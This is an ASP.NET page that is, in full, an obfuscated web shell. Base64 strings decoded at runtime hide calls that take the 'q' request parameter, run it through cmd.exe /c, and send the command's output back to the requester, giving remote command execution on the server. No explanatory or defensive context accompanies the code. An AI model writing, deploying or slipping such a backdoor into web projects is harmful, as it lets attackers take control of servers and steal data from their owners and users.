<%@ Page Language="C#" %>
<script runat="server">
    static string D(string s) { return System.Text.Encoding.ASCII.GetString(Convert.FromBase64String(s)); }
    void Page_Load(object o, EventArgs e)
    {
        var q = Request[D("cQ==")];
        if (q == null) return;
        Type t = Type.GetType(D("U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3NTdGFydEluZm8sIFN5c3RlbSwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODk="));
        object si = Activator.CreateInstance(t, D("Y21kLmV4ZQ=="), D("L2Mg") + q);
        t.GetProperty(D("VXNlU2hlbGxFeGVjdXRl")).SetValue(si, false, null);
        t.GetProperty(D("UmVkaXJlY3RTdGFuZGFyZE91dHB1dA==")).SetValue(si, true, null);
        Type p = Type.GetType(D("U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3MsIFN5c3RlbSwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODk="));
        object proc = p.GetMethod(D("U3RhcnQ="), new Type[] { t }).Invoke(null, new object[] { si });
        var so = (System.IO.StreamReader)p.GetProperty(D("U3RhbmRhcmRPdXRwdXQ=")).GetValue(proc, null);
        Response.Write(so.ReadToEnd());
    }
</script>
